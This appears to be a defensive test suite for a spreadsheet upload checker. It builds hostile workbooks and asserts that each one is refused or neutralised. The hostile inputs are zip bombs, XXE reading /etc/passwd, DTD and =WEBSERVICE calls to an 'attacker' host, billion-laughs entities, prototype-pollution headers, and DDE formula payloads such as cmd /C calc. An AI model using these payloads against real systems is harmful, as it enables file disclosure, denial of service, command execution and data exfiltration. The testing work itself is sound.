import { PassThrough } from 'node:stream';
import { deflateRawSync } from 'node:zlib';
import XLSX from '@e965/xlsx';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { parseIsoDate, type Day } from '../src/calendar.ts';
import { checkSpreadsheet } from '../src/check.ts';
import { evaluateRow } from '../src/evaluate.ts';
import type { ReasonCode } from '../src/reasons.ts';
import { inspectSpreadsheet } from '../src/spreadsheet/guard.ts';
import { DEFAULT_LIMITS } from '../src/spreadsheet/limits.ts';
import { readAllRows } from '../src/spreadsheet/read.ts';
import type { SheetRow } from '../src/spreadsheet/rows.ts';
import { ExportWriter, neutralise } from '../src/spreadsheet/write-export.ts';
import { buildZip, minimalXlsxEntries, SHEET_HEAD, SHEET_TAIL, type RawEntry } from './support/zip.ts';

/**
 * The hostile workbooks of shared/guides/reliability-security.md, generated here (never checked in).
 * Each must be refused with its reason code, without throwing and without memory growth. How long the
 * heaviest take is a bench figure (`npm run bench -- hostile-inputs`), not an assertion here.
 */
const TODAY = parseIsoDate('2026-11-21') as Day;
const MB = 1024 * 1024;

async function refused(bytes: Buffer, fileName: string, expected: ReasonCode | readonly ReasonCode[], limits = DEFAULT_LIMITS): Promise<void> {
  const rssBefore = process.memoryUsage().rss;
  const result = await checkSpreadsheet(bytes, fileName, { today: TODAY, limits });
  const grown = (process.memoryUsage().rss - rssBefore) / MB;
  expect(result.ok, `expected a refusal, got ${JSON.stringify(result)}`).toBe(false);
  if (!result.ok) expect(Array.isArray(expected) ? expected : [expected]).toContain(result.reason);
  expect(grown).toBeLessThan(300);
}

const xlsx = (parts: Record<string, string> = {}, rows?: string) => buildZip(minimalXlsxEntries(parts, rows));
const withEntry = (extra: RawEntry, parts: Record<string, string> = {}) => buildZip([...minimalXlsxEntries(parts), extra]);

describe('baseline', () => {
  it('the minimal fixture itself is accepted', async () => {
    const r = await readAllRows(xlsx(), 'ok.xlsx');
    expect(r.ok && r.value.rows.length).toBe(1);
  });
});

describe('UP-01..03 zip bombs', () => {
  it('UP-01 zip bomb: 1 GB sheet of <row/> refused from the central directory', async () => {
    const bomb = buildZip([
      ...minimalXlsxEntries().filter((e) => e.name !== 'xl/worksheets/sheet1.xml'),
      { name: 'xl/worksheets/sheet1.xml', repeat: { chunk: '<row/>'.repeat(174_763), times: 1024, prefix: SHEET_HEAD, suffix: SHEET_TAIL } },
    ]);
    expect(bomb.length).toBeLessThan(5 * MB);
    await refused(bomb, 'bomb.xlsx', 'archive_too_large');
  });

  it('UP-01 zip bomb: many medium entries exceed the inflated total', async () => {
    const entries: RawEntry[] = [...minimalXlsxEntries()];
    for (let i = 0; i < 5; i++) entries.push({ name: `xl/media/pad${i}.xml`, repeat: { chunk: 'A'.repeat(1 << 20), times: 60 } });
    await refused(buildZip(entries), 'bomb.xlsx', 'archive_too_large');
  });

  it('UP-02 zip bomb via 100,000 entries: refused on the central-directory count', async () => {
    const entries: RawEntry[] = [...minimalXlsxEntries()];
    const empty = deflateRawSync(Buffer.alloc(0));
    for (let i = 0; i < 100_000; i++) entries.push({ name: `x/${i}`, data: '', compressedOverride: empty });
    await refused(buildZip(entries), 'many.xlsx', 'too_many_entries');
  });

  it('UP-02 overlapping entries: local headers that do not tile the file are refused', async () => {
    const zip = xlsx();
    // Point the second central record at the first local header (overlap).
    const cd = zip.readUInt32LE(zip.length - 6);
    let at = cd;
    at += 46 + zip.readUInt16LE(at + 28) + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32);
    zip.writeUInt32LE(0, at + 42);
    await refused(zip, 'overlap.xlsx', 'malformed_workbook');
  });

  it('UP-03 lying sizes: declared 1 KB, inflates to 150 MB; the counter aborts', async () => {
    const bomb = withEntry({ name: 'xl/media/image1.png', repeat: { chunk: 'B'.repeat(1 << 20), times: 150 }, declaredSize: 1024 });
    await refused(bomb, 'liar.xlsx', 'archive_too_large');
  });

  it('UP-03 lying sizes on the sheet itself', async () => {
    const entries = minimalXlsxEntries().filter((e) => e.name !== 'xl/worksheets/sheet1.xml');
    entries.push({ name: 'xl/worksheets/sheet1.xml', repeat: { chunk: '<row/>'.repeat(100_000), times: 400, prefix: SHEET_HEAD, suffix: SHEET_TAIL }, declaredSize: 2048 });
    await refused(buildZip(entries), 'liar.xlsx', ['archive_too_large', 'too_many_rows']);
  });
});

describe('UP-04/05 XML entities', () => {
  const xxe = '<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&x;</t></si></sst>';

  it('UP-04 XXE in xl/sharedStrings.xml refused before exceljs or SheetJS see it', async () => {
    await refused(xlsx({ 'xl/sharedStrings.xml': xxe }), 'xxe.xlsx', 'doctype_refused');
  });

  it('UP-04 XXE in the workbook part and in a sheet', async () => {
    await refused(xlsx({ 'xl/workbook.xml': xxe }), 'xxe.xlsx', 'doctype_refused');
    await refused(xlsx({}, '<!DOCTYPE r [<!ENTITY e "x">]><row r="1"/>'), 'xxe.xlsx', 'doctype_refused');
  });

  it('UP-04 DOCTYPE split across inflate chunks is still seen', async () => {
    // Inflate output arrives in 16 KiB chunks: these pads put `<`, `!` and `D` on each side of the first boundaries.
    const pads = [16_384, 32_768, 65_536].flatMap((boundary) => Array.from({ length: 12 }, (_v, i) => boundary - 28 + i));
    for (const pad of pads) {
      const part = `<?xml version="1.0"?>${' '.repeat(pad)}<!DOCTYPE sst SYSTEM "http://attacker/x.dtd"><sst/>`;
      await refused(xlsx({ 'xl/sharedStrings.xml': part }), 'split.xlsx', 'doctype_refused');
    }
  });

  it('UP-04 lower-case and UTF-16 disguises', async () => {
    await refused(xlsx({ 'xl/sharedStrings.xml': '<?xml version="1.0"?><!doctype x><sst/>' }), 'lc.xlsx', 'doctype_refused');
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<?xml version="1.0"?><!DOCTYPE x><sst/>', 'utf16le')]);
    await refused(buildZip([...minimalXlsxEntries(), { name: 'xl/sharedStrings.xml', data: utf16 }]), 'u16.xlsx', 'unsupported_encoding');
  });

  it('UP-05 billion laughs refused before any expansion', async () => {
    let dtd = '<!ENTITY lol "lol">';
    for (let i = 1; i <= 10; i++) dtd += `<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`;
    await refused(xlsx({ 'xl/sharedStrings.xml': `<?xml version="1.0"?><!DOCTYPE lolz [${dtd}]><sst><si><t>&lol10;</t></si></sst>` }), 'lol.xlsx', 'doctype_refused');
  });

  it('UP-05 several DOCTYPEs in one part', async () => {
    await refused(xlsx({ 'xl/sharedStrings.xml': '<!DOCTYPE a><!DOCTYPE b [<!ENTITY c "d">]><sst/>' }), 'multi.xlsx', 'doctype_refused');
  });

  it('UP-05 a million numeric character references are read, not refused (their time: bench/hostile-inputs)', async () => {
    const rows = `<row r="1"><c r="A1" t="inlineStr"><is><t>Pays</t></is></c><c r="B1" t="inlineStr"><is><t>Date de dépôt</t></is></c><c r="C1" t="inlineStr"><is><t>Commentaire</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>FR</t></is></c><c r="B2" t="inlineStr"><is><t>15/03/2018</t></is></c><c r="C2" t="inlineStr"><is><t>${'&#65;'.repeat(1_000_000)}</t></is></c></row>`;
    const r = await checkSpreadsheet(xlsx({}, rows), 'refs.xlsx', { today: TODAY });
    expect(r.ok).toBe(true);
  });
});

describe('UP-06 huge row counts', () => {
  it('UP-06 1,048,576 rows stop at the row cap', async () => {
    const entries = minimalXlsxEntries().filter((e) => e.name !== 'xl/worksheets/sheet1.xml');
    entries.push({ name: 'xl/worksheets/sheet1.xml', repeat: { chunk: '<row r="2"><c r="A2" t="inlineStr"><is><t>FR</t></is></c></row>'.repeat(1024), times: 1024, prefix: SHEET_HEAD, suffix: SHEET_TAIL } });
    await refused(buildZip(entries), 'grid.xlsx', 'too_many_rows');
  });

  it('UP-06 one 32,767-character cell in every row', async () => {
    const entries = minimalXlsxEntries().filter((e) => e.name !== 'xl/worksheets/sheet1.xml');
    entries.push({ name: 'xl/worksheets/sheet1.xml', repeat: { chunk: `<row><c t="inlineStr"><is><t>${'x'.repeat(32_767)}</t></is></c></row>`, times: 100_000, prefix: SHEET_HEAD, suffix: SHEET_TAIL } });
    await refused(buildZip(entries), 'wide.xlsx', 'archive_too_large');
  });

  it('UP-06 the streaming reader stops at the row cap too (exceljs and SheetJS)', async () => {
    const limits = { ...DEFAULT_LIMITS, maxRows: 5 };
    const rows = ['<row r="1"><c r="A1" t="inlineStr"><is><t>Pays</t></is></c><c r="B1" t="inlineStr"><is><t>Date de dépôt</t></is></c></row>'];
    for (let r = 2; r <= 5; r++) rows.push(`<row r="${r}"><c r="A${r}" t="inlineStr"><is><t>FR</t></is></c></row>`);
    expect((await readAllRows(xlsx({}, rows.join('')), 'ok.xlsx', limits)).ok).toBe(true);
    for (let r = 6; r <= 9; r++) rows.push(`<row r="${r}"><c r="A${r}" t="inlineStr"><is><t>FR</t></is></c></row>`);
    await refused(xlsx({}, rows.join('')), 'cap.xlsx', 'too_many_rows', limits);
    const aoa = [['Pays', 'Date de dépôt'], ...Array.from({ length: 10 }, () => ['FR', '15/03/2018'])];
    const wb = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet(aoa), 'S');
    await refused(XLSX.write(wb, { type: 'buffer', bookType: 'biff8' }) as Buffer, 'cap.xls', 'too_many_rows', limits);
  });
});

describe('UP-07..09 types, macros, encryption', () => {
  it.each([
    ['evil.html', Buffer.from('<html><body><script>alert(1)</script></body></html>')],
    ['csv', Buffer.from('Pays;Date de dépôt\nFR;15/03/2018\n')],
    ['xml-2003', Buffer.from('<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="x"/></Workbook>')],
    ['sylk', Buffer.from('ID;PWXL;N;E\r\nC;Y1;X1;K"Pays"\r\nE\r\n')],
    ['exe', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])],
    ['docx-like zip', buildZip([{ name: '[Content_Types].xml', data: '<Types/>' }, { name: 'word/document.xml', data: '<w:document/>' }])],
  ])('UP-07 wrong magic vs extension: %s named .xlsx', async (_label, bytes) => {
    await refused(bytes, 'upload.xlsx', 'type_mismatch');
  });

  it('UP-07 anything but .xlsx/.xls is refused by name', async () => {
    await refused(xlsx(), 'upload.csv', 'type_mismatch');
    await refused(xlsx(), 'upload', 'type_mismatch');
  });

  it('UP-08 .xls disguised as .xlsx and .xlsx disguised as .xls', async () => {
    const wb = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet([['Pays', 'Date de dépôt'], ['FR', '15/03/2018']]), 'S');
    const xls = XLSX.write(wb, { type: 'buffer', bookType: 'biff8' }) as Buffer;
    expect((await readAllRows(xls, 'real.xls')).ok).toBe(true);
    await refused(xls, 'fake.xlsx', 'type_mismatch');
    await refused(xlsx(), 'fake.xls', 'type_mismatch');
  });

  it('UP-09 macro-enabled workbook (xl/vbaProject.bin) renamed .xlsx', async () => {
    await refused(withEntry({ name: 'xl/vbaProject.bin', data: Buffer.alloc(64) }), 'macro.xlsx', 'macro_not_allowed');
  });

  it('UP-09 macro-enabled content type and .xlsm name', async () => {
    const types = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>';
    await refused(xlsx({ '[Content_Types].xml': types }), 'macro.xlsx', 'macro_not_allowed');
    await refused(xlsx(), 'macro.xlsm', 'macro_not_allowed');
  });

  it('UP-09 a macro-enabled default type only refuses when a part has that extension: SheetJS declares one for .bin in every workbook it writes (refused before: macro_not_allowed)', async () => {
    const types = (extra: string) =>
      `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>${extra}<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`;
    const r = await readAllRows(xlsx({ '[Content_Types].xml': types('') }), 'sheetjs.xlsx');
    expect(r.ok && r.value.rows.length).toBe(1);
    // A part with that extension, whatever its name, is a macro project.
    await refused(withEntry({ name: 'xl/project.bin', data: Buffer.alloc(64) }, { '[Content_Types].xml': types('') }), 'macro.xlsx', 'macro_not_allowed');
    // A macro type declared for a part, prefixed or split over lines.
    await refused(xlsx({ '[Content_Types].xml': types('<Override\n PartName="/xl/other.xml"\n ContentType="application/vnd.ms-office.vbaProject"/>') }), 'macro.xlsx', 'macro_not_allowed');
    // A workbook saved by SheetJS itself.
    const wb = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet([['Pays', 'Date de dépôt', 'N° de publication'], ['FR', '15/03/2018', 'FR3000001']]), 'S');
    const saved = await readAllRows(XLSX.write(wb, { type: 'buffer', bookType: 'xlsx' }) as Buffer, 'sheetjs.xlsx');
    expect(saved.ok && saved.value.rows.map((row) => row.publication)).toEqual(['FR3000001']);
  });

  it('UP-09 password-protected xlsx (OLE2 with EncryptionInfo) named .xlsx', async () => {
    const cfb = XLSX.CFB.utils.cfb_new();
    XLSX.CFB.utils.cfb_add(cfb, 'EncryptionInfo', Buffer.alloc(256, 1));
    XLSX.CFB.utils.cfb_add(cfb, 'EncryptedPackage', Buffer.alloc(4096, 2));
    const bytes = Buffer.from(XLSX.CFB.write(cfb, { type: 'buffer' }) as Uint8Array);
    await refused(bytes, 'secret.xlsx', 'encrypted_not_supported');
    await refused(bytes, 'secret.xls', 'encrypted_not_supported');
  });

  it('UP-09 legacy workbook carrying a VBA project', async () => {
    const cfb = XLSX.CFB.utils.cfb_new();
    XLSX.CFB.utils.cfb_add(cfb, 'Workbook', Buffer.alloc(512));
    XLSX.CFB.utils.cfb_add(cfb, '_VBA_PROJECT_CUR/VBA/dir', Buffer.alloc(64));
    await refused(Buffer.from(XLSX.CFB.write(cfb, { type: 'buffer' }) as Uint8Array), 'macro.xls', 'macro_not_allowed');
  });

  it('UP-09 zip entries flagged as encrypted', async () => {
    const entries = minimalXlsxEntries().map((e) => (e.name === 'xl/workbook.xml' ? { ...e, flags: 1 } : e));
    await refused(buildZip(entries), 'enc.xlsx', 'encrypted_not_supported');
  });
});

describe('UP-10 malformed and truncated zips', () => {
  it('UP-10 500 truncations of a valid xlsx: every one refused, none thrown', async () => {
    const valid = xlsx();
    let seed = 42;
    const random = () => ((seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31) / 2 ** 31);
    const reasons = new Set<string>();
    for (let i = 0; i < 500; i++) {
      const cut = 1 + Math.floor(random() * (valid.length - 2));
      const result = await inspectSpreadsheet(valid.subarray(0, cut), 'cut.xlsx', DEFAULT_LIMITS);
      expect(result.ok, `cut at ${cut}`).toBe(false);
      if (!result.ok) reasons.add(result.reason);
    }
    expect([...reasons].every((r) => ['malformed_workbook', 'type_mismatch'].includes(r))).toBe(true);
  });

  it('UP-10 CRC mismatch', async () => {
    const entries = minimalXlsxEntries().map((e) => (e.name === 'xl/worksheets/sheet1.xml' ? { ...e, crc: 0xdeadbeef } : e));
    await refused(buildZip(entries), 'crc.xlsx', 'malformed_workbook');
  });

  it('UP-10 deflate garbage', async () => {
    let seed = 7;
    const garbage = Buffer.from(Array.from({ length: 400 }, () => (seed = (seed * 75 + 74) % 65_537) & 0xff));
    const entries = minimalXlsxEntries().map((e) => (e.name === 'xl/worksheets/sheet1.xml' ? { ...e, compressedOverride: garbage } : e));
    await refused(buildZip(entries), 'garbage.xlsx', ['malformed_workbook', 'archive_too_large']);
  });

  it('UP-10 no end-of-central-directory record and a truncated legacy workbook', async () => {
    const valid = xlsx();
    await refused(valid.subarray(0, valid.length - 22), 'noeocd.xlsx', 'malformed_workbook');
    const wb = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet([['Pays', 'Date de dépôt'], ['FR', '15/03/2018']]), 'S');
    const xls = XLSX.write(wb, { type: 'buffer', bookType: 'biff8' }) as Buffer;
    for (const cut of [600, 1024, 2000, xls.length - 100]) {
      const r = await checkSpreadsheet(xls.subarray(0, cut), 'cut.xls', { today: TODAY });
      expect(r.ok).toBe(false);
    }
  });
});

describe('UP-13 prototype pollution', () => {
  const hostile = [
    ['__proto__', 'constructor', 'prototype', 'Pays', 'Date de dépôt', 'hasOwnProperty'],
    ['{"polluted":1}', '__proto__', 'x', 'FR', '15/03/2018', 'toString'],
  ];

  async function assertClean(bytes: Buffer, fileName: string): Promise<void> {
    const r = await readAllRows(bytes, fileName);
    expect(r.ok).toBe(true);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.keys(Object.prototype)).toEqual([]);
    if (!r.ok) return;
    const row = r.value.rows[0] as SheetRow;
    expect(Object.getPrototypeOf(row)).toBe(Object.prototype);
    expect(Object.keys(row)).not.toContain('__proto__');
    expect(r.value.sheets[0]?.columns instanceof Map).toBe(true);
    expect(evaluateRow(row, TODAY).office).toBe('FR');
  }

  it('UP-13 crafted xlsx: sheet named __proto__, __proto__ headers and values', async () => {
    const cell = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;
    const rows = hostile.map((row, r) => `<row r="${r + 1}">${row.map((v, c) => cell(`${String.fromCharCode(65 + c)}${r + 1}`, v.replace(/"/g, '&quot;'))).join('')}</row>`).join('');
    const wbXml = '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="__proto__" sheetId="1" r:id="rId1"/></sheets><definedNames><definedName name="__proto__">x</definedName></definedNames></workbook>';
    await assertClean(xlsx({ 'xl/workbook.xml': wbXml }, rows), 'proto.xlsx');
  });

  it('UP-13 crafted xls through SheetJS (CVE-2023-30533 shape)', async () => {
    const wb = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet(hostile), '__proto__');
    await assertClean(XLSX.write(wb, { type: 'buffer', bookType: 'biff8' }) as Buffer, 'proto.xls');
  });
});

const VECTORS = ['=HYPERLINK("http://x?"&A1)', "+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+1', '\r=1+1', '-2+3+cmd|\' /C calc\'!A0', '=WEBSERVICE("http://x")', '\u0000=1'];

async function exportOf(rows: Array<Array<string | number | null>>): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  const writer = new ExportWriter(out);
  await writer.startSheet({ name: 'S', headers: ['Pays', 'Commentaire', 'Montant'], columns: new Map([['country', 0], ['comment', 1]]) });
  for (const [i, row] of rows.entries()) {
    const sheetRow: SheetRow = { sheet: 'S', rowNumber: i + 2, cells: row, publication: null, application: null, reference: null, title: null, country: 'FR', payer: null, comment: null, origin: null, filingDate: null, grantDate: null, lastPaid: null, issues: [] };
    await writer.addRow(sheetRow, evaluateRow(sheetRow, TODAY));
  }
  await writer.finish();
  out.end();
  return Buffer.concat(chunks);
}

async function sheetXml(bytes: Buffer): Promise<string> {
  const { default: yauzl } = await import('yauzl');
  return new Promise((resolve, reject) => {
    yauzl.fromBuffer(bytes, { lazyEntries: true }, (err, zip) => {
      if (err) return reject(err);
      let xml = '';
      zip.on('entry', (entry: import('yauzl').Entry) => {
        zip.openReadStream(entry, (e, s) => {
          if (e) return reject(e);
          s.on('data', (c: Buffer) => (xml += c.toString('utf8')));
          s.on('end', () => zip.readEntry());
        });
      });
      zip.on('end', () => resolve(xml));
      zip.readEntry();
    });
  });
}

describe('UP-16..18 formula injection', () => {
  it('UP-16 formula vectors: each trigger gets a leading apostrophe, plain text and numbers do not', () => {
    for (const v of VECTORS) expect(neutralise(v)).toBe(`'${v}`);
    expect(neutralise('Brevet FR')).toBe('Brevet FR');
    expect(neutralise('')).toBe('');
  });

  it('UP-17 formula injection in the XLSX export: string cells with the apostrophe, no <f> anywhere', async () => {
    const bytes = await exportOf(VECTORS.map((v) => ['FR', v, -12.5]));
    const xml = await sheetXml(bytes);
    expect(xml).not.toMatch(/<f[ >]/);
    expect(xml).toContain('<t xml:space="preserve">\'=HYPERLINK(&quot;http://x?&quot;&amp;A1)</t>');
    expect(xml).toContain('<v>-12.5</v>');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes as unknown as ArrayBuffer);
    const values = wb.worksheets[0]?.getColumn(2).values.slice(2) as unknown[];
    expect(values.every((v) => typeof v === 'string' && v.startsWith("'"))).toBe(true);
    expect(wb.worksheets[0]?.getCell('C2').value).toBe(-12.5);
  });

  it('UP-18 an uploaded =WEBSERVICE(...) formula comes back as escaped text, never as a formula', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('S');
    ws.addRow(['Pays', 'Date de dépôt', 'Commentaire']);
    ws.addRow(['FR', '15/03/2018', { formula: 'WEBSERVICE("http://attacker/?"&A1)', result: '' }]);
    const upload = Buffer.from(await wb.xlsx.writeBuffer());
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    const result = await checkSpreadsheet(upload, 'dde.xlsx', { today: TODAY, out });
    out.end();
    expect(result.ok).toBe(true);
    const xml = await sheetXml(Buffer.concat(chunks));
    expect(xml).not.toMatch(/<f[ >]/);
    expect(xml).toContain('\'=WEBSERVICE(&quot;http://attacker/?&quot;&amp;A1)');
  });
});

describe('UP-21/22 merged cells and shared strings', () => {
  it('UP-21 30,000 merged ranges are refused', async () => {
    const merges = Array.from({ length: 30_000 }, (_v, i) => `<mergeCell ref="A${i * 2 + 3}:B${i * 2 + 3}"/>`).join('');
    const sheet = `${SHEET_HEAD}<row r="1"><c r="A1" t="inlineStr"><is><t>Pays</t></is></c></row></sheetData><mergeCells count="30000">${merges}</mergeCells></worksheet>`;
    await refused(xlsx({ 'xl/worksheets/sheet1.xml': sheet }), 'merges.xlsx', 'too_many_merged_cells');
  });

  it('UP-21 one merge spanning the whole grid (A1:XFD1048576)', async () => {
    const sheet = `${SHEET_HEAD}<row r="1"><c r="A1" t="inlineStr"><is><t>Pays</t></is></c></row></sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>`;
    await refused(xlsx({ 'xl/worksheets/sheet1.xml': sheet }), 'span.xlsx', 'too_many_merged_cells');
  });

  it('UP-22 shared-strings bomb: 10^7 strings refused on size before caching', async () => {
    const sst = { name: 'xl/sharedStrings.xml', repeat: { chunk: '<si><t>x</t></si>'.repeat(10_000), times: 1000, prefix: '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">', suffix: '</sst>' } };
    await refused(withEntry(sst), 'sst.xlsx', 'shared_strings_too_large');
  });

  it('UP-22 shared-strings bomb with a lying declared size', async () => {
    const sst = { name: 'xl/sharedStrings.xml', repeat: { chunk: '<si><t>x</t></si>'.repeat(10_000), times: 1000 }, declaredSize: 4096 };
    await refused(withEntry(sst), 'sst.xlsx', ['shared_strings_too_large', 'archive_too_large']);
  });
});
